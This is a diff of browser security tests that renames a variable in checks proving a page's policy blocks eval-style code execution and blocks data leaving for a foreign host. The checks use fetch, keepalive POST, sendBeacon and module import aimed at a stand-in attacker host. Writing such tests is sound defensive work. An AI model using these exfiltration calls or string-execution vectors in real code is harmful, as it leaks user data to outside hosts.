@@ -40,7 +40,7 @@ test('F-01: markup of an attacker runs no script, loads nothing and is reported'
 /** Runs in the page: all means to make code of a string. Later, because a debugger's own call may use `eval`. */
 async function runStrings() {
   const body = document.body
-  const ways: Record<string, () => unknown> = {
+  const attempts: Record<string, () => unknown> = {
     // biome-ignore lint/security/noGlobalEval: the test shows that it is blocked
     eval: () => globalThis.eval('1'),
     function: () => new Function('return 1')(),
@@ -71,7 +71,7 @@ async function runStrings() {
       ).trustedTypes.createPolicy('evil', {}),
   }
   await new Promise(requestAnimationFrame)
-  return Object.entries(ways).map(([name, run]) => {
+  return Object.entries(attempts).map(([name, run]) => {
     try {
       run()
       return { name, result: 'ran' }
@@ -88,7 +88,7 @@ test('F-02: a script of ours that was taken over can send nothing to another hos
     const element = (name: string, attributes: Record<string, string>) => () => {
       document.body.append(Object.assign(document.createElement(name), attributes))
     }
-    const ways: Record<string, () => unknown> = {
+    const attempts: Record<string, () => unknown> = {
       fetch: () => fetch(`${host}/1`, { mode: 'no-cors' }),
       keepalive: () => fetch(`${host}/2`, { keepalive: true, method: 'POST', body: 'x' }),
       beacon: () => navigator.sendBeacon(`${host}/3`, 'x'),
@@ -115,14 +115,14 @@ test('F-02: a script of ours that was taken over can send nothing to another hos
       },
       module: () => import(`${host}/16`),
     }
-    for (const way of Object.values(ways)) {
+    for (const attempt of Object.values(attempts)) {
       try {
-        await way()
+        await attempt()
       } catch {
         // Blocked.
       }
     }
-    return Object.keys(ways).length
+    return Object.keys(attempts).length
   }, evil)
   await page.evaluate(() => new Promise((resolve) => requestIdleCallback(resolve)))
   console.info(`F-02: 0 of ${channels} channels are open`)
